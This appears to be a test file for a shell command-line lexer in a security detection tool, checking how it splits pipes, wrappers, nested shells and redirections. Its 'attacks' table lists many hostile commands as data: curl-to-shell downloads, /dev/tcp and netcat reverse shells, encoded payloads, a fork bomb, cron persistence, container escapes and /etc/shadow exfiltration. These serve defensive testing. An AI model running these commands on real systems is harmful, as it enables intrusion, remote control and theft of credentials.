import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import {
  argumentsOf,
  commandsOf,
  emptyCommandLine,
  flagsOf,
  hasFlag,
  lexCommandLine,
  pipedInto,
  programs,
  type SimpleCommand,
  valueOfFlag,
  wordOfFlag,
} from "./command-line.ts";

/** One `+` a level of depth, `~` before what a wrapper runs, the operator after a space. */
function shown({ commands }: { readonly commands: readonly SimpleCommand[] }): string {
  return commands
    .map(({ depth, wrapped, program, operator }) => {
      return `${"+".repeat(depth)}${wrapped ? "~" : ""}${program}${operator === "" ? "" : ` ${operator}`}`;
    })
    .join(", ");
}

const attacks: readonly (readonly [string, string])[] = [
  ["sh -c curl -s http://203.0.113.5/x.sh | sh", "sh, +curl |, +sh"],
  ["curl -fsSL http://203.0.113.5/x.sh | bash", "curl |, bash"],
  ["curl -fsSL http://203.0.113.5/x.sh|bash", "curl |, bash"],
  ["curl -s http://203.0.113.5/x | sudo bash -s", "curl |, sudo, ~bash"],
  ["wget -qO- http://203.0.113.5/x | tee /tmp/x | sh", "wget |, tee |, sh"],
  ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "bash"],
  ["bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "bash, +bash"],
  ["sh -c 0<&196;exec 196<>/dev/tcp/203.0.113.5/44; sh <&196 >&196 2>&196", "sh, + ;, +exec ;, +sh"],
  [
    "sh -c exec 5<>/dev/tcp/203.0.113.5/443;cat <&5 | while read line; do $line 2>&5 >&5; done",
    "sh, +exec ;, +cat |, +read ;, +$line ;",
  ],
  [
    "sh -c rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    "sh, +rm ;, +mkfifo ;, +cat |, +sh |, +nc",
  ],
  ['bash -c "echo a; nc -e /bin/sh 1.2.3.4 4444"', "bash, +echo ;, +nc"],
  ['python3 -c import os;os.system("curl x | sh")', "python3"],
  ["python3 -u -c import pty; pty.spawn('/bin/sh')", "python3"],
  ["perl -MIO -e $p=fork;exit,if($p);while(<>){system $_}", "perl"],
  ['php -r $s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");', "php"],
  ["ruby -rsocket -e f=TCPSocket.open(1).to_i;exec sprintf(2)", "ruby"],
  ["node -e require('child_process').exec('id'); console.log(1)", "node"],
  ["awk BEGIN {s = 1; while(42) { do { s |& getline c; } while(c) }} /dev/null", "awk"],
  ["bash -c {echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}", "bash, +{echo,ymfzacataq==} |, +{base64,-d} |, +{bash,-i}"],
  ["sh -c echo Y3VybA== | base64 -d | sh", "sh, +echo |, +base64 |, +sh"],
  ['sh -c echo "curl http://203.0.113.5/x" | sh', "sh, +echo |, +sh, ++curl"],
  ["bash -c bash <<< 'curl http://203.0.113.5/x | sh'", "bash, +bash, ++curl |, ++sh"],
  ["sh -c bash <<EOF\nwget x\nEOF\nid", "sh, +bash ;, ++wget ;, +id"],
  ["sh -c cat <<'EOF' | bash\ncurl x | sh\nEOF\nid", "sh, +cat |, +bash ;, ++curl |, ++sh ;, +id"],
  ["sh -c cat <<EOF > /etc/cron.d/x\n* * root curl x | sh\nEOF\nchmod 600 x", "sh, +cat ;, +chmod"],
  ["bash <(curl -s http://203.0.113.5/x)", "bash, +curl"],
  ["sh -c echo $(curl -s http://203.0.113.5/$(hostname))", "sh, +echo, ++curl, +++hostname"],
  ["sh -c echo `curl -s http://203.0.113.5`", "sh, +echo, ++curl"],
  ['sh -c eval "$(wget -qO- http://203.0.113.5)"', "sh, +eval, ++, +++wget"],
  ["sh -c w'g'et http://203.0.113.5 -O- | b\\a\\s\\h", "sh, +wget |, +bash"],
  ["bash -c $'\\x63\\165rl' http://203.0.113.5", "bash, +curl"],
  ["sh -c (crontab -l; echo '* * curl x') | crontab -", "sh, +crontab ;, +echo |, +crontab"],
  ["sh -c { id; uname; } | nc 203.0.113.5 80", "sh, +id ;, +uname |, +nc"],
  ["sh -c while true; do nc -lvp 4444 -e /bin/sh; done", "sh, +true ;, +nc ;"],
  ["for i in 1 2; do curl http://203.0.113.5/$i; done | sh", "for ;, curl |, sh"],
  ["bash -c :(){ :|:& };:", "bash, +:, +: |, +: &, +:"],
  ["sudo su - root -c id; whoami", "sudo, ~su, +id ;, +whoami"],
  ["su -s /bin/sh -c 'crontab -l' www-data", "su, +crontab"],
  ["env -i PATH=/bin A=b bash -lc id", "env, ~bash, +id"],
  ['env -S "bash -c id"', "env, +bash, ++id"],
  ["sudo -u www-data -E FOO=bar timeout -k 5 10 nohup /tmp/.x/k --c", "sudo, ~timeout, ~nohup, ~k"],
  ["nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "nsenter, ~bash"],
  ["nsenter -t 1 -m -u -n -i sh -c cat /etc/shadow", "nsenter, ~sh, +cat"],
  ["nsenter -m/proc/1/ns/mnt sh", "nsenter, ~sh"],
  ["chroot /host /bin/bash -c useradd -o -u 0 x && id", "chroot, ~bash, +useradd &&, +id"],
  ["unshare -Urm sh -c mount -t tmpfs none /mnt", "unshare, ~sh, +mount"],
  ["docker exec -it -u root web sh -c cat /etc/shadow", "docker, ~sh, +cat"],
  ["docker run --rm -it --privileged -v /:/mnt alpine chroot /mnt sh", "docker, ~chroot, ~sh"],
  ["kubectl exec -it -n prod pod-0 -c app -- sh -c env | grep -i token", "kubectl, ~sh, +env |, +grep"],
  ["crictl exec -it abc123 cat /etc/passwd", "crictl, ~cat"],
  ["ip netns exec blue curl http://10.0.0.1", "ip, ~curl"],
  ["busybox wget -q http://203.0.113.5/m", "busybox, ~wget"],
  ["busybox sh -c wget x; sh x", "busybox, ~sh, +wget ;, +sh"],
  ["/lib64/ld-linux-x86-64.so.2 /tmp/x", "ld-linux-x86-64.so.2, ~x"],
  ["find / -name id_rsa -exec cat {} ; -print", "find, ~cat"],
  ["find / -perm -4000 -exec ls -la {} +", "find, ~ls"],
  ["sh -c find / -name x -print0 | xargs -0 -n1 tar rf /tmp/k", "sh, +find |, +xargs, +~tar"],
  ["exec -a kworker /tmp/m -o pool:3333", "exec, ~m"],
  ["setsid -f nohup /dev/shm/x &", "setsid &, ~nohup &, ~x &"],
  ["cd /tmp; wget http://203.0.113.5/x; chmod +x x && ./x &", "cd ;, wget ;, chmod &&, x &"],
  ["cat /etc/shadow | nc 203.0.113.5 4444", "cat |, nc"],
  ["ping -c 1 127.0.0.1;cat /etc/passwd", "ping ;, cat"],
  ['flock -n /tmp/l -c "curl x | sh"', "flock, +curl |, +sh"],
  ['script -qc "su - root" /dev/null', "script, +su"],
  ['trap "rm -f /tmp/x" EXIT', "trap, +rm"],
  ["capsh --uid=0 -- -c id", "capsh, +id"],
  ["systemd-run --unit x -p A=b /bin/sh -c id", "systemd-run, ~sh, +id"],
  ["pkexec --user root id", "pkexec, ~id"],
  [`sh -c "bash -c 'curl \\"http://x\\" | sh'"`, "sh, +bash, ++curl |, ++sh"],
  ["sh -c >/tmp/x echo a", "sh, +echo"],
  ['sh -c python3 -c import os;s=os.x();os.system(("id",1)); cat /etc/shadow | nc x 1', "sh, +python3 ;, +cat |, +nc"],
  ["sh -c python3 -c 1;nc -e /bin/sh 203.0.113.5 44", "sh, +python3 ;, +nc"],
  ["sh -c curl http://x/?a=1&b=2 -o /tmp/x && id", "sh, +curl &&, +id"],
  ["sh -c curl http://x/?a=1&b=2 nc -e /bin/sh x", "sh, +curl &, +nc"],
  ["sh -c az x --c A=b;C=d;E=f== ; id", "sh, +az ;, +id"],
  ["sh -c sh -c sh -c sh -c sh -c sh -c sh -c id", "sh, +sh, ++sh, +++sh, ++++sh, +++++sh, ++++++sh"],
];

const ordinary: readonly (readonly [string, string])[] = [
  ["sh", "sh"],
  ["-bash", "bash"],
  ["sh /tmp/x.sh -c foo", "sh"],
  ["nginx -g daemon off; master_process off;", "nginx"],
  ["nginx: master process /usr/sbin/nginx -g daemon off;", "nginx"],
  ["java -Xmx512m -jar /app/app.jar --spring.profiles.active=prod", "java"],
  ["python3 -m http.server 8000", "python3"],
  ["python3 -u /app/main.py --flag", "python3"],
  ["containerd-shim -namespace moby -id abc -address /run/c.sock", "containerd-shim"],
  ["runc --root /run/x init", "runc"],
  ["/usr/sbin/cron -f", "cron"],
  ["apt-get install -y curl && apt-get clean", "apt-get &&, apt-get"],
  ["curl -A Mozilla/5.0 (X11; Linux x86_64) -H Cookie: a=b; c=d -o /tmp/x http://10.0.0.1/?a=1&b=2", "curl"],
  ["mysql -u root -pS3cret -e select 1; drop table x", "mysql"],
  ["psql -c select 'a|b'; -U postgres", "psql"],
  ["grep -E root|bash /etc/passwd", "grep"],
  ["sed -i s/a/b/;s/c/d/ /etc/hosts", "sed"],
  ["git commit -m don't panic; it's fine", "git"],
  ["ps aux | grep -v grep | awk {print $2} | xargs kill -9", "ps |, grep |, awk |, xargs, ~kill"],
  ["tar czf - /etc | openssl enc -aes-256-cbc | curl -T - ftp://10.0.0.1/", "tar |, openssl |, curl"],
  ["kubectl get secrets -A -o yaml", "kubectl"],
  ["ssh root@10.0.0.1 sudo id", "ssh"],
  ["command -v curl", "command"],
  ["sudo -l", "sudo"],
  ["gosu postgres postgres -D /data", "gosu, ~postgres"],
  ["tini -- /docker-entrypoint.sh redis-server", "tini, ~docker-entrypoint.sh"],
  ["watch -n 1 ls /tmp", "watch, ~ls"],
  ["strace -f -e trace=open ls", "strace, ~ls"],
  ["ls /tmp 2>/dev/null >> /tmp/o", "ls"],
  ["sh -ec  set -x;  ls", "sh, +set ;, +ls"],
  ["bash --norc -o pipefail -c ls | wc", "bash, +ls |, +wc"],
  ["sh -c if [ -f /tmp/x ]; then sh /tmp/x; else id; fi", "sh, +[ ;, +sh ;, +id ;"],
  ["1 2 3", "1"],
  ["", ""],
];

describe("lexCommandLine", () => {
  for (const [text, expected] of [...attacks, ...ordinary]) {
    it(`finds the programs of ${text.slice(0, 80) || "nothing"}`, () => {
      assert.equal(shown(lexCommandLine(text)), expected);
    });
  }

  it("takes the script of a joined command line as one word", () => {
    const [shell] = lexCommandLine("/bin/sh -c curl -s x | sh > /tmp/o").commands;
    assert.deepEqual(
      shell?.words.map(({ value }) => value),
      ["/bin/sh", "-c", "curl -s x | sh > /tmp/o"],
    );
    assert.equal(shell?.programPath, "/bin/sh");
    assert.deepEqual(shell?.redirections, []);
  });

  it("keeps code of other languages whole, quoted or not", () => {
    const code = (text: string) => lexCommandLine(text).commands[0]?.words.at(-1)?.value;
    assert.equal(code("python3 -c import os; os.system('id')"), "import os; os.system('id')");
    assert.equal(code("python3 -c 'import os; os.system(1)'"), "import os; os.system(1)");
    assert.equal(code("sudo perl -lne print if /x/ | y"), "print if /x/ | y");
    const inner = lexCommandLine("sh -c python3 -c import os;os.system(('id',1)) ; ls > /tmp/o").commands;
    assert.equal(inner[1]?.words.at(-1)?.value, "import os;os.system(('id',1))");
    assert.equal(inner[2]?.redirections[0]?.target, "/tmp/o");
  });

  it("reads redirections with their targets", () => {
    const redirections = (text: string) =>
      lexCommandLine(text)
        .commands.at(-1)
        ?.redirections.map(({ operator, target }) => `${operator} ${target}`);
    assert.deepEqual(redirections("bash -i>&/dev/tcp/203.0.113.5/44 0>&1"), [">& /dev/tcp/203.0.113.5/44", "0>& 1"]);
    assert.deepEqual(redirections("ls 2> /dev/null >>/tmp/o </tmp/i"), ["2> /dev/null", ">> /tmp/o", "< /tmp/i"]);
    assert.deepEqual(redirections("sh -c x &>/dev/null <&3 3<>/dev/tcp/a/1"), [
      "&> /dev/null",
      "<& 3",
      "3<> /dev/tcp/a/1",
    ]);
    assert.deepEqual(redirections("echo <NA> a->b"), []);
  });

  it("parts the environment from the program", () => {
    const command = lexCommandLine("sh -c A=1 B='x y' curl http://x").commands.at(-1);
    assert.deepEqual(
      command?.environment.map(({ value }) => value),
      ["A=1", "B=x y"],
    );
    assert.equal(command?.program, "curl");
    const wrapped = lexCommandLine("env -i HTTP_PROXY=http://x curl y").commands.at(-1);
    assert.deepEqual(
      wrapped?.environment.map(({ value }) => value),
      ["HTTP_PROXY=http://x"],
    );
  });

  it("names the place of each word, through quotes and escapes", () => {
    const text = `sh -c "bash -c \\"curl -u 'a b':c\\" x"`;
    const words = lexCommandLine(text).commands.flatMap((command) => command.words);
    const places = words.map(({ value, start, end }) => [value, text.slice(start, end)]);
    assert.ok(places.some(([value, place]) => value === "curl" && place === "curl"));
    assert.ok(places.some(([value, place]) => value === "a b:c" && place === "'a b':c"));
    const hex = "bash -c $'c\\x75rl x'";
    const curl = lexCommandLine(hex).commands.at(-1)?.words[0];
    assert.deepEqual([curl?.value, hex.slice(curl?.start, curl?.end)], ["curl", "c\\x75rl"]);
  });

  it("does not read beyond 64 KiB, and keeps the text", () => {
    const text = `echo ${"a".repeat(70_000)} | sh`;
    const line = lexCommandLine(text);
    assert.equal(line.text, text);
    assert.equal(shown(line), "echo");
  });

  it("never throws, and every word's place holds what it says", () => {
    const pieces = fc.constantFrom(
      ..."' \" \\ $( ) ` ; | & && || < > << <<< 2>&1 \n { } ${ $' $\" sh -c bash sudo env A=b <( EOF echo cat -e é 😀 \u0000 \ud800 find -exec".split(
        " ",
      ),
      " ",
      "x",
      "curl",
      "python3 -c",
    );
    const lines = fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(
        fc.oneof(
          lines,
          fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(" ")),
        ),
        (text) => {
          for (const [index, command] of lexCommandLine(text).commands.entries()) {
            assert.equal(command.index, index);
            for (const word of [...command.words, ...command.environment]) checkPlace(text, word);
            assert.equal(command.program === "" || command.words.length > 0, true);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });

  for (const [name, text] of hostileLines()) {
    it(`reads 64 KiB of ${name} to the end`, () => {
      const line = lexCommandLine(text);
      for (const command of line.commands) pipedInto(line, command);
      assert.ok(line.commands.every(({ words }) => words.every(({ end }) => end <= text.length)));
    });
  }
});

/** The value is what stands there, once quotes and backslashes are out. */
function checkPlace(text: string, { value, start, end }: { value: string; start: number; end: number }): void {
  assert.ok(start >= 0 && start <= end && end <= text.length, `${start}-${end} of ${text.length}`);
  const place = text.slice(start, end);
  if (/['"\\$`]/.test(place)) return;
  assert.equal(place, value);
}

function hostileLines(): readonly (readonly [string, string])[] {
  const full = (piece: string, before = "") => before + piece.repeat(Math.ceil(65_536 / piece.length));
  return [
    ["open substitutions", full("$(")],
    ["open substitutions in quotes", full('"$(')],
    ["nested substitutions", `${full("$(a ").slice(0, 32_000)}${full(")").slice(0, 8000)}`],
    ["single quotes", full("'", "x")],
    ["double quotes", full('" ')],
    ["escaped quotes", full('\\"', '"')],
    ["backticks", full("` a", "`")],
    ["braces", full("${")],
    ["ANSI quotes", full("$'\\")],
    ["here-documents", `sh -c ${full("a <<b ")}\n`],
    ["here-documents with lines", `sh -c ${full("a <<b\n")}`],
    ["shells in shells", full("sh -c ")],
    ["wrappers", full("sudo ")],
    ["finds", full("find -exec ")],
    ["ends of find", full("; /a ", `${"find ".repeat(5000)}-exec `)],
    ["pipes", full("a | ")],
    ["joined pipes", full("a|sh")],
    ["echoes into shells", full("echo a | sh; ")],
    ["parentheses", full("(|", "sh -c $(a;b)")],
    ["scripts that do not begin", full("> ", `${"a ".repeat(20_000)}-c `)],
    ["tags", full("<a")],
    ["assignments", full("A=b ")],
    ["here-strings", full("sh <<<'sh <<<a' ")],
    ["code without quotes", full("a();", "sh -c python -c ")],
    ["calls", full(";a(", "sh -c a ")],
    ["parameters", full("&a=", "sh -c a ")],
    ["white space", full(" ")],
    ["lines", full("\n", "sh -c ")],
  ];
}

const only = (text: string): SimpleCommand => {
  const command = lexCommandLine(text).commands[0];
  assert.ok(command);
  return command;
};

describe("questions to a command", () => {
  it("finds flags alone, in clusters and with values", () => {
    const command = only("rm -rf --no-preserve-root --one=x -- -v /");
    assert.ok(hasFlag(command, "-r", "--recursive"));
    assert.ok(hasFlag(command, "-f"));
    assert.ok(hasFlag(command, "--one"));
    assert.ok(!hasFlag(command, "-v"));
    assert.ok(!hasFlag(command, "--no"));
    assert.deepEqual(flagsOf(command), ["-rf", "--no-preserve-root", "--one=x"]);
    assert.deepEqual(argumentsOf(command), ["-v", "/"]);
    assert.ok(!hasFlag(only("find / -name x"), "-exec"));
    assert.ok(hasFlag(only("find / -exec x"), "-exec"));
  });

  it("finds values apart, attached and after an equals sign", () => {
    const value = (text: string) => valueOfFlag(only(text), "-p", "--password");
    assert.equal(value("mysql -p S3cret"), "S3cret");
    assert.equal(value("mysql -pS3cret db"), "S3cret");
    assert.equal(value("mysql --password=S3cret"), "S3cret");
    assert.equal(value("mysql --password S3cret"), "S3cret");
    assert.equal(value("mysql --passwords=x"), null);
    assert.equal(value("mysql db"), null);
    assert.equal(value("mysql -p"), null);
  });

  it("says where a flag's value stands", () => {
    const text = "mysql -u root -pS3cret db";
    const word = wordOfFlag(only(text), "-p");
    assert.equal(text.slice(word?.start, word?.end), "S3cret");
  });

  it("follows a pipe past what is run inside it", () => {
    const line = lexCommandLine("sh -c sudo curl $(id | wc) | tee x | sudo bash; ls");
    const [curl] = commandsOf(line, "curl");
    assert.ok(curl);
    assert.deepEqual(
      pipedInto(line, curl).map(({ program }) => program),
      ["tee", "sudo", "bash"],
    );
    const [ls] = commandsOf(line, "ls");
    assert.ok(ls);
    assert.deepEqual(pipedInto(line, ls), []);
  });

  it("lists each program once", () => {
    assert.deepEqual([...programs(lexCommandLine("sh -c /bin/ls; LS; ls | sh"))], ["sh", "ls"]);
    assert.deepEqual([...programs(emptyCommandLine)], []);
  });
});
